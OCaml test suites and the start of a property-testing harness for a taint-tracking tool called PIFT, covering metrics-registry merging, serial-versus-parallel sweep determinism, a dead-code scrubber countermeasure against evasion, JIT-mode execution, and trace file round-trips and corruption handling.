  Metric.Gauge.set ga 10;
  Metric.Gauge.set ga 2;
  (* a: value 2, peak 10 *)
  Metric.Gauge.set gb 6;
  (* b: value 6, peak 6 *)
  Registry.merge ~into:a b;
  checki "counters add" 7 (Option.get (Registry.find_counter a "ops_total"));
  Alcotest.(check (float 1e-9))
    "gauge keeps max value" 6.
    (Option.get (Registry.find_gauge a "bytes"));
  (match Registry.snapshot a with
  | [ _; bytes ] -> (
      match bytes.Registry.s_points with
      | [ ([], Registry.P_gauge { peak; _ }) ] ->
          Alcotest.(check (float 1e-9)) "gauge keeps max peak" 10. peak
      | _ -> Alcotest.fail "unexpected gauge point")
  | _ -> Alcotest.fail "expected 2 samples");
  (* source registry is untouched *)
  checki "src counter intact" 4
    (Option.get (Registry.find_counter b "ops_total"))

let test_merge_histograms_and_families () =
  let a = Registry.create () and b = Registry.create () in
  let ha = Registry.histogram a "trace_len" in
  List.iter (Metric.Histogram.observe ha) [ 1; 2; 100 ];
  let hb = Registry.histogram b "trace_len" in
  List.iter (Metric.Histogram.observe hb) [ 3; 200 ];
  let fam_b = Registry.counter_family b ~label:"pid" "per_pid_total" in
  Metric.Counter.incr (fam_b "1");
  Metric.Counter.add (fam_b "2") 5;
  Registry.merge ~into:a b;
  (match Registry.snapshot a with
  | [ h; fam ] ->
      (match h.Registry.s_points with
      | [ ([], Registry.P_histogram { count; sum; vmax; _ }) ] ->
          checki "hist count" 5 count;
          checki "hist sum" 306 sum;
          checki "hist vmax" 200 vmax
      | _ -> Alcotest.fail "unexpected histogram point");
      checks "family registered by merge" "per_pid_total"
        fam.Registry.s_name;
      (match fam.Registry.s_points with
      | [
       ([ ("pid", "1") ], Registry.P_counter 1);
       ([ ("pid", "2") ], Registry.P_counter 5);
      ] ->
          ()
      | _ -> Alcotest.fail "unexpected family points")
  | l -> Alcotest.failf "expected 2 samples, got %d" (List.length l));
  (* kind conflict still raises through merge *)
  let c = Registry.create () in
  ignore (Registry.gauge c "trace_len");
  checkb "merge kind conflict raises" true
    (try
       Registry.merge ~into:c a;
       false
     with Invalid_argument _ -> true)

let test_merge_empty_is_identity () =
  let a = Registry.create () in
  Metric.Counter.add (Registry.counter a "n") 2;
  let before = Registry.snapshot a in
  Registry.merge ~into:a (Registry.create ());
  checkb "merge of empty is identity" true (before = Registry.snapshot a)

(* --- sweep determinism (serial vs parallel) ------------------------------ *)

let strip_spans samples =
  (* spans measure wall-clock; everything else must match exactly *)
  List.filter
    (fun s -> not (String.length s.Registry.s_name >= 4
                   && String.sub s.Registry.s_name 0 4 = "span"))
    samples

let test_sweep_parallel_deterministic () =
  let apps =
    List.filteri (fun i _ -> i < 10) Pift_workloads.Droidbench.subset48
  in
  let nis = [ 1; 3; 13 ] and nts = [ 1; 3 ] in
  let run jobs =
    let registry = Registry.create () in
    let s = Accuracy.sweep ~nis ~nts ~metrics:registry ~jobs apps in
    (s, Registry.snapshot registry)
  in
  let serial, serial_snap = run 1 in
  let parallel, parallel_snap = run test_jobs in
  checki "apps" serial.Accuracy.apps parallel.Accuracy.apps;
  checkb "identical cells" true
    (serial.Accuracy.cells = parallel.Accuracy.cells);
  (* cells arrive sorted ascending by (ni, nt) in both runs *)
  let keys = List.map fst serial.Accuracy.cells in
  checkb "cells sorted" true (keys = List.sort compare keys);
  checki "cell count" (List.length nis * List.length nts)
    (List.length serial.Accuracy.cells);
  checkb "identical merged metrics" true
    (strip_spans serial_snap = strip_spans parallel_snap)

let () =
  Alcotest.run "pift_par"
    [
      ( "pool",
        [
          Alcotest.test_case "map = Array.map" `Quick
            test_map_matches_array_map;
          Alcotest.test_case "more jobs than items" `Quick
            test_more_jobs_than_items;
          Alcotest.test_case "chunked scheduling" `Quick
            test_chunked_scheduling;
          Alcotest.test_case "exception propagates" `Quick
            test_exception_propagates;
          Alcotest.test_case "map_reduce fold order" `Quick
            test_map_reduce_fold_order;
          Alcotest.test_case "map_slots worker bounds" `Quick
            test_map_slots_worker_bounds;
        ] );
      ( "registry merge",
        [
          Alcotest.test_case "counters and gauges" `Quick
            test_merge_counters_gauges;
          Alcotest.test_case "histograms and families" `Quick
            test_merge_histograms_and_families;
          Alcotest.test_case "empty merge is identity" `Quick
            test_merge_empty_is_identity;
        ] );
      ( "sweep determinism",
        [
          Alcotest.test_case "serial = parallel" `Quick
            test_sweep_parallel_deterministic;
        ] );
    ]
