(* Tests for the extension features: the dead-code scrubber (§7 compiler
   countermeasure), the evasion workloads, JIT-mode execution (§4.1), and
   recording serialization. *)

module Range = Pift_util.Range
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
module Asm = Pift_arm.Asm
module Scrubber = Pift_arm.Scrubber
module Cpu = Pift_machine.Cpu
module Memory = Pift_machine.Memory
module Policy = Pift_core.Policy
module Vm = Pift_dalvik.Vm
module Translate = Pift_dalvik.Translate
module Recorded = Pift_eval.Recorded
module Trace_io = Pift_eval.Trace_io
module Trace = Pift_trace.Trace

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let imm n = Insn.Imm n

(* --- Scrubber -------------------------------------------------------------- *)

let frag insns =
  let a = Asm.create () in
  Asm.emit_all a insns;
  Asm.ret a;
  Asm.assemble a

let test_scrubber_removes_dummy_block () =
  let before =
    frag
      ([ Insn.Ldr (Insn.Half, Reg.R6, Insn.Offset (Reg.R1, imm 0)) ]
      @ List.init 10 (fun _ ->
            Insn.Alu (Insn.Add, false, Reg.R10, Reg.R10, imm 1))
      @ [ Insn.Str (Insn.Half, Reg.R6, Insn.Offset (Reg.R0, imm 0)) ])
  in
  let after = Scrubber.scrub before in
  checki "dummy block removed" 10 (Scrubber.removed ~before ~after);
  (* semantics preserved: run both on fresh machines, compare the store *)
  let run f =
    let m = Memory.create () in
    let cpu = Cpu.create ~sink:(fun _ -> ()) m in
    Memory.write_u16 m 0x1000 0xBEEF;
    Cpu.set cpu Reg.R0 0x2000;
    Cpu.set cpu Reg.R1 0x1000;
    Cpu.run cpu f;
    Memory.read_u16 m 0x2000
  in
  checki "same result" (run before) (run after)

let test_scrubber_keeps_contributing_ops () =
  let before =
    frag
      [
        Insn.Ldr (Insn.Half, Reg.R6, Insn.Offset (Reg.R1, imm 0));
        (* contributes to the stored value: must stay *)
        Insn.Alu (Insn.Eor, false, Reg.R6, Reg.R6, imm 0x20);
        (* dead: r9 never used *)
        Insn.Mov (Reg.R9, imm 7);
        Insn.Str (Insn.Half, Reg.R6, Insn.Offset (Reg.R0, imm 0));
      ]
  in
  let after = Scrubber.scrub before in
  checki "only the dead mov removed" 1 (Scrubber.removed ~before ~after);
  checkb "eor kept" true
    (Array.exists
       (function Insn.Alu (Insn.Eor, _, _, _, _) -> true | _ -> false)
       after)

let test_scrubber_respects_live_out () =
  let before = frag [ Insn.Mov (Reg.R9, imm 7) ] in
  let after_default = Scrubber.scrub before in
  checki "scratch reg dead by default" 1
    (Scrubber.removed ~before ~after:after_default);
  let after_live = Scrubber.scrub ~live_out:[ Reg.R9; Reg.LR ] before in
  checki "kept when live-out" 0 (Scrubber.removed ~before ~after:after_live)

let test_scrubber_bails_on_branches () =
  let a = Asm.create () in
  Asm.label a "top";
  Asm.emit a (Insn.Alu (Insn.Add, false, Reg.R10, Reg.R10, imm 1));
  Asm.emit a (Insn.Cmp (Reg.R10, imm 5));
  Asm.branch a Pift_arm.Cond.Lt "top";
  Asm.ret a;
  let f = Asm.assemble a in
  checkb "not straight-line" false (Scrubber.straight_line f);
  checki "unchanged" 0 (Scrubber.removed ~before:f ~after:(Scrubber.scrub f))

let test_scrubber_flags_and_addressing () =
  let before =
    frag
      [
        (* sets flags: must stay even though r3 is scratch *)
        Insn.Alu (Insn.Sub, true, Reg.R3, Reg.R3, imm 1);
        (* feeds the address of a kept load: must stay *)
        Insn.Mov (Reg.R2, imm 0x1000);
        Insn.Ldr (Insn.Word, Reg.R4, Insn.Offset (Reg.R2, imm 0));
      ]
  in
  let after = Scrubber.scrub before in
  checki "nothing removed" 0 (Scrubber.removed ~before ~after)

let test_relocate_stores () =
  (* the live-dummy pattern: pads feed a later accumulator store, so the
     scrubber keeps them; relocation hoists the data store anyway *)
  let before =
    frag
      ([ Insn.Ldr (Insn.Half, Reg.R6, Insn.Offset (Reg.R1, imm 0)) ]
      @ List.init 8 (fun _ ->
            Insn.Alu (Insn.Add, false, Reg.R10, Reg.R10, imm 1))
      @ [
          Insn.Str (Insn.Half, Reg.R6, Insn.Offset (Reg.R0, imm 0));
          Insn.Str (Insn.Word, Reg.R10, Insn.Offset (Reg.R2, imm 0));
        ])
  in
  let scrubbed = Scrubber.scrub before in
  checki "live pads survive scrubbing" 0
    (Scrubber.removed ~before ~after:scrubbed);
  let after = Scrubber.relocate_stores scrubbed in
  (* data store now immediately follows the load *)
  (match after.(1) with
  | Insn.Str (Insn.Half, _, _) -> ()
  | i -> Alcotest.failf "store not hoisted: %s" (Insn.to_string i));
  (* the accumulator store stays below its producers *)
  (match after.(Array.length after - 2) with
  | Insn.Str (Insn.Word, _, _) -> ()
  | i -> Alcotest.failf "accumulator store moved wrongly: %s" (Insn.to_string i));
  (* semantics preserved *)
  let run f =
    let m = Memory.create () in
    let cpu = Cpu.create ~sink:(fun _ -> ()) m in
    Memory.write_u16 m 0x1000 0xBEEF;
    Cpu.set cpu Reg.R0 0x2000;
    Cpu.set cpu Reg.R1 0x1000;
    Cpu.set cpu Reg.R2 0x3000;
    Cpu.run cpu f;
    (Memory.read_u16 m 0x2000, Memory.read_u32 m 0x3000)
  in
  checkb "same results" true (run before = run after)

let test_relocate_respects_dependencies () =
  (* a store whose data is produced mid-block must not cross its def *)
  let before =
    frag
      [
        Insn.Mov (Reg.R9, imm 1);
        Insn.Alu (Insn.Add, false, Reg.R6, Reg.R9, imm 41);
        Insn.Alu (Insn.Add, false, Reg.R10, Reg.R10, imm 1);
        Insn.Mov (Reg.R0, imm 0x2000);
        Insn.Str (Insn.Word, Reg.R6, Insn.Offset (Reg.R0, imm 0));
      ]
  in
  let after = Scrubber.relocate_stores before in
  (* the store needs r0 (defined at index 3): it cannot move above it *)
  (match after.(4) with
  | Insn.Str _ -> ()
  | i -> Alcotest.failf "store moved past its address def: %s" (Insn.to_string i));
  (* memory order is preserved across other memory ops *)
  let mem_pair =
    frag
      [
        Insn.Mov (Reg.R0, imm 0x2000);
        Insn.Mov (Reg.R6, imm 7);
        Insn.Str (Insn.Word, Reg.R6, Insn.Offset (Reg.R0, imm 0));
        Insn.Alu (Insn.Add, false, Reg.R10, Reg.R10, imm 1);
        Insn.Str (Insn.Word, Reg.R6, Insn.Offset (Reg.R0, imm 4));
      ]
  in
  let after = Scrubber.relocate_stores mem_pair in
  match (after.(2), after.(3)) with
  | Insn.Str (_, _, Insn.Offset (_, Insn.Imm 0)),
    Insn.Str (_, _, Insn.Offset (_, Insn.Imm 4)) ->
      ()
  | _ -> Alcotest.fail "store order not preserved"

(* Property: on random straight-line fragments, scrubbing and relocation
   preserve the memory image and the callee-saved registers. *)
let frag_gen =
  QCheck2.Gen.(
    let data_reg =
      map
        (fun i -> [| Reg.R1; Reg.R2; Reg.R3; Reg.R6; Reg.R9; Reg.R10;
                     Reg.R11; Reg.R12 |].(i))
        (int_range 0 7)
    in
    let offset = map (fun i -> Insn.Imm (4 * i)) (int_range 0 15) in
    let insn =
      oneof
        [
          (let* d = data_reg and* v = int_range 0 999 in
           return (Insn.Mov (d, Insn.Imm v)));
          (let* d = data_reg and* s = data_reg in
           return (Insn.Mov (d, Insn.Reg s)));
          (let* d = data_reg and* s = data_reg and* v = int_range 0 99 in
           return (Insn.Alu (Insn.Add, false, d, s, Insn.Imm v)));
          (let* d = data_reg and* s = data_reg and* o = data_reg in
           return (Insn.Alu (Insn.Eor, false, d, s, Insn.Reg o)));
          (let* d = data_reg and* off = offset in
           return (Insn.Ldr (Insn.Word, d, Insn.Offset (Reg.R0, off))));
          (let* s = data_reg and* off = offset in
           return (Insn.Str (Insn.Word, s, Insn.Offset (Reg.R0, off))));
        ]
    in
    list_size (int_range 1 30) insn)

let prop_scrub_preserves_semantics =
  QCheck2.Test.make
    ~name:"scrub + relocate preserve memory and callee-saved state"
    ~count:300 frag_gen (fun insns ->
      let original = frag insns in
      let transformed =
        Scrubber.relocate_stores (Scrubber.scrub original)
      in
      let run f =
        let m = Memory.create () in
        let cpu = Cpu.create ~sink:(fun _ -> ()) m in
        Cpu.set cpu Reg.R0 0x1000;
        (* deterministic nonzero starting registers *)
        Array.iteri
          (fun i r -> if i <= 12 && i <> 0 then Cpu.set cpu r (i * 17))
          Reg.all;
        for i = 0 to 15 do
          Memory.write_u32 m (0x1000 + (4 * i)) (i * 1001)
        done;
        Cpu.run cpu f;
        ( List.init 16 (fun i -> Memory.read_u32 m (0x1000 + (4 * i))),
          List.map (Cpu.get cpu) [ Reg.R4; Reg.R5; Reg.R7; Reg.R8 ] )
      in
      run original = run transformed)

(* --- Evasion --------------------------------------------------------------- *)

let test_evasion_live_variant () =
  let run app policy =
    (Recorded.replay ~policy (Recorded.record app)).Recorded.flagged
  in
  checkb "live-dummy attack evades" false
    (run Pift_workloads.Evasion.attack_live Policy.default);
  checkb "relocation restores detection" true
    (run Pift_workloads.Evasion.hardened_live Policy.default)

let test_evasion_pair () =
  let run app policy =
    (Recorded.replay ~policy (Recorded.record app)).Recorded.flagged
  in
  let big = Policy.make ~ni:20 ~nt:10 () in
  checkb "attack evades the default window" false
    (run Pift_workloads.Evasion.attack Policy.default);
  checkb "attack evades even (20,10)" false
    (run Pift_workloads.Evasion.attack big);
  checkb "full DIFT still catches the attack" true
    (Recorded.replay_dift (Recorded.record Pift_workloads.Evasion.attack))
      .Recorded.dift_flagged;
  checkb "hardened runtime restores detection" true
    (run Pift_workloads.Evasion.hardened Policy.default)

(* --- JIT mode ---------------------------------------------------------------- *)

let test_jit_optimize_removes_overhead () =
  let f = Translate.fragment (Translate.Plain (Pift_dalvik.Bytecode.Move (0, 1))) in
  let j = Translate.jit_optimize f in
  checkb "shorter" true (Array.length j < Array.length f);
  checkb "no fetch left" true
    (not
       (Array.exists
          (function
            | Insn.Ldr (Insn.Half, r, Insn.Pre _) -> Reg.equal r Reg.rinst
            | _ -> false)
          j));
  (* GET/SET_VREG memory traffic preserved *)
  checkb "vreg load kept" true (Array.exists Insn.is_load j);
  checkb "vreg store kept" true (Array.exists Insn.is_store j)

let test_jit_semantics_match () =
  (* the factorial program computes the same value in both modes *)
  let module B = Pift_dalvik.Bytecode in
  let methods () =
    [
      Pift_dalvik.Method.make ~name:"fact" ~registers:5 ~ins:1
        [
          B.Const4 (0, 1);
          B.If_test (B.Gt, 4, 0, 3);
          B.Return 4;
          B.Binop_lit8 (B.Sub, 1, 4, 1);
          B.Invoke (B.Static, "fact", [ 1 ]);
          B.Move_result 2;
          B.Binop (B.Mul, 3, 2, 4);
          B.Return 3;
        ];
      Pift_dalvik.Method.make ~name:"main" ~registers:3 ~ins:0
        [
          B.Const4 (0, 6);
          B.Invoke (B.Static, "fact", [ 0 ]);
          B.Move_result 1;
          B.Return 1;
        ];
    ]
  in
  let run mode =
    let env = Pift_runtime.Env.create ~sink:(fun _ -> ()) () in
    let vm =
      Vm.create ~mode env
        (Pift_dalvik.Program.make ~entry:"main" (methods ()))
    in
    Vm.call vm "main" []
  in
  checki "interp 6!" 720 (run Vm.Interpreter);
  checki "jit 6!" 720 (run Vm.Jit)

let test_jit_shorter_traces_same_verdict () =
  let app = Option.get (Pift_workloads.Droidbench.find "StringConcat1") in
  let ri = Recorded.record ~mode:Vm.Interpreter app in
  let rj = Recorded.record ~mode:Vm.Jit app in
  checkb "jit trace shorter" true
    (Trace.length rj.Recorded.trace < Trace.length ri.Recorded.trace);
  let f r = (Recorded.replay ~policy:Policy.default r).Recorded.flagged in
  checkb "both detect" true (f ri && f rj)

(* --- Trace serialization ------------------------------------------------------ *)

let test_trace_io_roundtrip () =
  let app = Option.get (Pift_workloads.Droidbench.find "BatchLeak1") in
  let original = Recorded.record app in
  let path = Filename.temp_file "pift" ".trace" in
  Fun.protect
    ~finally:(fun () -> Sys.remove path)
    (fun () ->
      Trace_io.save original path;
      let loaded = Trace_io.load path in
      Alcotest.(check string) "name" original.Recorded.name
        loaded.Recorded.name;
      checki "pid" original.Recorded.pid loaded.Recorded.pid;
      checki "bytecodes" original.Recorded.bytecodes
        loaded.Recorded.bytecodes;
      checki "events"
        (Trace.length original.Recorded.trace)
        (Trace.length loaded.Recorded.trace);
      checki "loads"
        (Trace.loads original.Recorded.trace)
        (Trace.loads loaded.Recorded.trace);
      checki "markers"
        (Array.length original.Recorded.markers)
        (Array.length loaded.Recorded.markers);
      (* the PIFT analysis gives identical answers on the loaded copy *)
      let sweep r =
        List.map
          (fun (ni, nt) ->
            let rep = Recorded.replay ~policy:(Policy.make ~ni ~nt ()) r in
            ( rep.Recorded.flagged,
              rep.Recorded.stats.Pift_core.Tracker.taint_ops,
              rep.Recorded.stats.Pift_core.Tracker.max_tainted_bytes ))
          [ (2, 1); (3, 2); (13, 3); (20, 10) ]
      in
      checkb "identical analysis" true (sweep original = sweep loaded))

(* Marker kinds are free-form strings from the app's source/sink
   registrations; the file format is space-delimited, so kinds carrying
   spaces (or newlines, or literal percent signs) must be escaped on
   write and restored on read.  Before the escaping fix, a spaced SRC
   kind failed the load with "unrecognised record" and a spaced SNK kind
   silently truncated at the first space. *)
let test_trace_io_adversarial_kinds () =
  let module Event = Pift_trace.Event in
  let trace = Trace.create () in
  Trace.add trace
    {
      Event.seq = 1;
      k = 1;
      pid = 7;
      insn = Insn.Nop;
      access = Event.Load (Range.make 100 103);
    };
  let kinds =
    [
      "IMEI number";
      "net send";
      "100% plain";
      "tabs\tand spaces";
      "multi\nline\rkind";
      "%20literal percent-escape";
    ]
  in
  let markers =
    List.mapi
      (fun i kind ->
        if i mod 2 = 0 then
          (i, Recorded.Source { kind; range = Range.make 100 103 })
        else (i, Recorded.Sink { kind; ranges = [ Range.make 100 103 ] }))
      kinds
  in
  let original =
    {
      Recorded.name = "adversarial";
      trace;
      markers = Array.of_list markers;
      pid = 7;
      bytecodes = 1;
    }
  in
  let path = Filename.temp_file "pift" ".trace" in
  Fun.protect
    ~finally:(fun () -> Sys.remove path)
    (fun () ->
      Trace_io.save original path;
      let loaded = Trace_io.load path in
      let kind_of = function
        | Recorded.Source { kind; _ } | Recorded.Sink { kind; _ } -> kind
      in
      checki "marker count"
        (Array.length original.Recorded.markers)
        (Array.length loaded.Recorded.markers);
      Array.iteri
        (fun i (seq, m) ->
          let seq', m' = loaded.Recorded.markers.(i) in
          checki "marker seq" seq seq';
          Alcotest.(check string) "marker kind" (kind_of m) (kind_of m'))
        original.Recorded.markers;
      checkb "markers equal" true
        (original.Recorded.markers = loaded.Recorded.markers))

let test_trace_io_rejects_garbage () =
  let path = Filename.temp_file "pift" ".trace" in
  Fun.protect
    ~finally:(fun () -> Sys.remove path)
    (fun () ->
      let oc = open_out path in
      output_string oc "not a trace\n";
      close_out oc;
      try
        ignore (Trace_io.load path);
        Alcotest.fail "garbage accepted"
      with Failure _ -> ())

(* The binary writer produces the same recording back, and analysing
   either serialisation gives identical answers. *)
let test_trace_io_binary_roundtrip () =
  let app = Option.get (Pift_workloads.Droidbench.find "BatchLeak1") in
  let original = Recorded.record app in
  let text_path = Filename.temp_file "pift" ".trace" in
  let bin_path = Filename.temp_file "pift" ".btrace" in
  Fun.protect
    ~finally:(fun () ->
      Sys.remove text_path;
      Sys.remove bin_path)
    (fun () ->
      Trace_io.save ~format:Trace_io.Text original text_path;
      Trace_io.save ~format:Trace_io.Binary original bin_path;
      checkb "binary detected" true
        (Trace_io.detect_format bin_path = Trace_io.Binary);
      checkb "text detected" true
        (Trace_io.detect_format text_path = Trace_io.Text);
      let from_text = Trace_io.load text_path in
      let from_bin = Trace_io.load bin_path in
      Alcotest.(check string) "name" from_text.Recorded.name
        from_bin.Recorded.name;
      checki "pid" from_text.Recorded.pid from_bin.Recorded.pid;
      checki "bytecodes" from_text.Recorded.bytecodes
        from_bin.Recorded.bytecodes;
      checki "events"
        (Trace.length from_text.Recorded.trace)
        (Trace.length from_bin.Recorded.trace);
      checkb "markers equal" true
        (from_text.Recorded.markers = from_bin.Recorded.markers);
      let replay r =
        let rep = Recorded.replay ~policy:Policy.default r in
        (rep.Recorded.flagged, rep.Recorded.verdicts, rep.Recorded.stats)
      in
      checkb "identical analysis" true (replay from_text = replay from_bin))

(* --- round-trip property over both formats ------------------------------ *)

module Rng = Pift_util.Rng

(* Synthetic recordings stressing the serialisation edge cases: empty
   marker kinds, kinds full of delimiters and escape look-alikes,
   markers sharing one sequence number, markers between event sequence
   numbers (negative seq deltas in the binary stream), and addresses
   jumping backwards. *)
let gen_recorded rng =
  let module Event = Pift_trace.Event in
  let gen_kind rng =
    match Rng.int rng 6 with
    | 0 -> ""
    | 1 -> "IMEI number"
    | 2 -> "100%"
    | 3 -> "a\nb\rc d"
    | 4 -> "%1_"
    | _ -> "plain"
  in
  let gen_range rng = Range.of_len (Rng.int rng 0x10000) (1 + Rng.int rng 64) in
  let trace = Trace.create () in
  let markers = ref [] in
  let seq = ref 0 in
  let n = Rng.int rng 40 in
  for _ = 1 to n do
    seq := !seq + 2 + Rng.int rng 4;
    let k = !seq + Rng.int rng 5 in
    let pid = 1 + Rng.int rng 3 in
    (match Rng.int rng 4 with
    | 0 ->
        Trace.add trace
          { Event.seq = !seq; k; pid; insn = Insn.Nop; access = Event.Other }
    | 1 | 2 ->
        Trace.add trace
          {
            Event.seq = !seq;
            k;
            pid;
            insn = Insn.Nop;
            access = Event.Load (gen_range rng);
          }
    | _ ->
        Trace.add trace
          {
            Event.seq = !seq;
            k;
            pid;
            insn = Insn.Nop;
            access = Event.Store (gen_range rng);
          });
    if Rng.int rng 3 = 0 then begin
      (* mseq may sit one below the event's seq — the writer then emits
         it after a larger event seq, so the binary delta goes negative *)
      let mseq = !seq - Rng.int rng 2 in
      let marker rng =
        if Rng.int rng 2 = 0 then
          Recorded.Source { kind = gen_kind rng; range = gen_range rng }
        else
          Recorded.Sink
            {
              kind = gen_kind rng;
              ranges =
                (let nr = Rng.int rng 3 in
                 let rec go k acc =
                   if k = 0 then List.rev acc
                   else go (k - 1) (gen_range rng :: acc)
                 in
                 go nr []);
            }
      in
      markers := (mseq, marker rng) :: !markers;
      (* sometimes two markers on the same sequence number *)
      if Rng.int rng 4 = 0 then markers := (mseq, marker rng) :: !markers
    end
  done;
  {
    Recorded.name = "prop-recording";
    trace;
    markers = Array.of_list (List.rev !markers);
    pid = 1 + Rng.int rng 5;
    bytecodes = Rng.int rng 1000;
  }

(* Loads and stores come back with synthetic instructions, so compare
   the serialised projection: header, (seq, k, pid, access) per event,
   and the marker array. *)
let project (r : Recorded.t) =
  let module Event = Pift_trace.Event in
  let evs = ref [] in
  Trace.iter
    (fun e -> evs := (e.Event.seq, e.Event.k, e.Event.pid, e.Event.access) :: !evs)
    r.Recorded.trace;
  ( r.Recorded.name,
    r.Recorded.pid,
    r.Recorded.bytecodes,
    List.rev !evs,
    Array.to_list r.Recorded.markers )

let describe_recorded (r : Recorded.t) =
  Printf.sprintf "%d events, %d markers"
    (Trace.length r.Recorded.trace)
    (Array.length r.Recorded.markers)

let roundtrip_prop format r =
  let path = Filename.temp_file "pift_prop" ".trace" in
  Fun.protect
    ~finally:(fun () -> Sys.remove path)
    (fun () ->
      Trace_io.save ~format r path;
      match Trace_io.load path with
      | loaded ->
          if project loaded = project r then Ok ()
          else
            Error
              (Printf.sprintf "%s round-trip changed the recording"
                 (Trace_io.format_to_string format))
      | exception Failure msg ->
          Error
            (Printf.sprintf "%s round-trip rejected its own output: %s"
               (Trace_io.format_to_string format)
               msg))

let test_trace_io_roundtrip_property () =
  List.iter
    (fun format ->
      Prop.check_gen
        ~name:("round-trip " ^ Trace_io.format_to_string format)
        ~count:50 ~gen:gen_recorded
        ~shrink:(fun _ -> [])
        ~to_string:describe_recorded (roundtrip_prop format))
    [ Trace_io.Text; Trace_io.Binary ]

(* --- corrupt inputs are rejected with a position ------------------------ *)

let contains s sub =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.equal (String.sub s i m) sub || go (i + 1)) in
  m = 0 || go 0

let expect_rejection ~mentions path =
  match Trace_io.load path with
  | _ -> Alcotest.failf "corrupt trace accepted (wanted error with %S)" mentions
  | exception Failure msg ->
      checkb
        (Printf.sprintf "error %S mentions %S" msg mentions)
        true (contains msg mentions)
  | exception e ->
      Alcotest.failf "corrupt trace escaped as %s (wanted Failure with %S)"
        (Printexc.to_string e) mentions

let with_text_fixture lines f =
  let path = Filename.temp_file "pift" ".trace" in
  Fun.protect
    ~finally:(fun () -> Sys.remove path)
    (fun () ->
      let oc = open_out path in
      List.iter
        (fun l ->
          output_string oc l;
          output_char oc '\n')
        ("PIFT-TRACE 1" :: "name x" :: "pid 1" :: "bytecodes 0" :: lines);
      close_out oc;
      f path)

(* "%1_" is not a hex escape: int_of_string tolerates underscores, so
   the old check decoded it as 0x1.  It must be rejected, with the line
   number. *)
let test_trace_io_bad_escape () =
  with_text_fixture [ "M 1 SRC %1_ 100 4" ] (expect_rejection ~mentions:"line 5");
  with_text_fixture [ "M 1 SRC ok%zz 100 4" ]
    (expect_rejection ~mentions:"escape")

(* Non-positive lengths used to escape as a bare
   [Invalid_argument "Range.of_len"]; they must surface as positioned
   Trace_io errors. *)
let test_trace_io_zero_length_record () =
  with_text_fixture [ "L 1 1 7 100 0" ] (expect_rejection ~mentions:"line 5");
  with_text_fixture [ "S 1 1 7 100 -3" ] (expect_rejection ~mentions:"line 5");
  with_text_fixture [ "M 1 SNK net 100 0" ]
    (expect_rejection ~mentions:"line 5")

let test_trace_io_corrupt_binary () =
  let app = Option.get (Pift_workloads.Droidbench.find "StringConcat1") in
  let recorded = Recorded.record app in
  let path = Filename.temp_file "pift" ".btrace" in
  Fun.protect
    ~finally:(fun () -> Sys.remove path)
    (fun () ->
      Trace_io.save ~format:Trace_io.Binary recorded path;
      let whole =
        let ic = open_in_bin path in
        let s = really_input_string ic (in_channel_length ic) in
        close_in ic;
        s
      in
      (* truncated mid-record (3 bytes is less than the smallest record,
         so the cut cannot land on a record boundary): the reader names
         the failing record *)
      let rewrite s =
        let oc = open_out_bin path in
        output_string oc s;
        close_out oc
      in
      rewrite (String.sub whole 0 (String.length whole - 3));
      expect_rejection ~mentions:"record" path;
      (* a zero-length record appended to a valid stream *)
      rewrite (whole ^ "\x00");
      expect_rejection ~mentions:"empty record" path;
      (* restoring the original bytes loads cleanly again *)
      rewrite whole;
      checki "restored file loads"
        (Trace.length recorded.Recorded.trace)
        (Trace.length (Trace_io.load path).Recorded.trace))

let () =
  Alcotest.run "pift_extensions"
    [
      ( "scrubber",
        [
          Alcotest.test_case "removes dummy blocks" `Quick
            test_scrubber_removes_dummy_block;
          Alcotest.test_case "keeps contributing ops" `Quick
            test_scrubber_keeps_contributing_ops;
          Alcotest.test_case "live-out" `Quick test_scrubber_respects_live_out;
          Alcotest.test_case "bails on branches" `Quick
            test_scrubber_bails_on_branches;
          Alcotest.test_case "flags & addressing" `Quick
            test_scrubber_flags_and_addressing;
          Alcotest.test_case "store relocation" `Quick test_relocate_stores;
          Alcotest.test_case "relocation dependencies" `Quick
            test_relocate_respects_dependencies;
          QCheck_alcotest.to_alcotest prop_scrub_preserves_semantics;
        ] );
      ( "evasion",
        [
          Alcotest.test_case "attack & countermeasure" `Quick
            test_evasion_pair;
          Alcotest.test_case "live dummy & relocation" `Quick
            test_evasion_live_variant;
        ] );
      ( "jit",
        [
          Alcotest.test_case "optimizer" `Quick
            test_jit_optimize_removes_overhead;
          Alcotest.test_case "semantics" `Quick test_jit_semantics_match;
          Alcotest.test_case "verdicts" `Quick
            test_jit_shorter_traces_same_verdict;
        ] );
      ( "trace_io",
        [
          Alcotest.test_case "roundtrip" `Quick test_trace_io_roundtrip;
          Alcotest.test_case "adversarial marker kinds" `Quick
            test_trace_io_adversarial_kinds;
          Alcotest.test_case "rejects garbage" `Quick
            test_trace_io_rejects_garbage;
          Alcotest.test_case "binary roundtrip" `Quick
            test_trace_io_binary_roundtrip;
          Alcotest.test_case "round-trip property (both formats)" `Quick
            test_trace_io_roundtrip_property;
          Alcotest.test_case "bad kind escapes rejected" `Quick
            test_trace_io_bad_escape;
          Alcotest.test_case "non-positive lengths rejected with line" `Quick
            test_trace_io_zero_length_record;
          Alcotest.test_case "corrupt binary rejected with record" `Quick
            test_trace_io_corrupt_binary;
        ] );
    ]
