(* Minimal seeded property-testing harness for the taint-store
   differential suite.

   Deliberately tiny instead of qcheck: cases are driven by the
   repo's own deterministic [Pift_util.Rng] (so a CI failure replays
   bit-exactly from the printed seed), the generator is specialised to
   adversarial taint-store op sequences, and shrinking is greedy chunk
   removal over those sequences.  Set PIFT_PROP_SEED to replay a
   failure; the default seed is fixed so CI is deterministic. *)

module Rng = Pift_util.Rng
module Range = Pift_util.Range

(* --- operations over one taint set ------------------------------------ *)

type op = Add of Range.t | Remove of Range.t | Overlaps of Range.t

let op_to_string = function
  | Add r -> "add " ^ Range.to_string r
  | Remove r -> "remove " ^ Range.to_string r
  | Overlaps r -> "overlaps? " ^ Range.to_string r

let ops_to_string ops =
  String.concat "; " (List.map op_to_string ops)

(* --- adversarial range generator --------------------------------------- *)

(* Addresses stay below [addr_space] so the bytemap oracle stays small,
   and ranges cluster around 16-byte block boundaries: exact blocks,
   block pairs, boundary-straddlers, exact-adjacency at hi+1 (the
   closed-interval coalescing case), nested sub-ranges, and single
   bytes.  Uniform random ranges almost never exercise the coalesce /
   split / adjacency paths; these shapes hit them constantly. *)

let block = 16
let addr_space = 512
let blocks = addr_space / block

let gen_range rng =
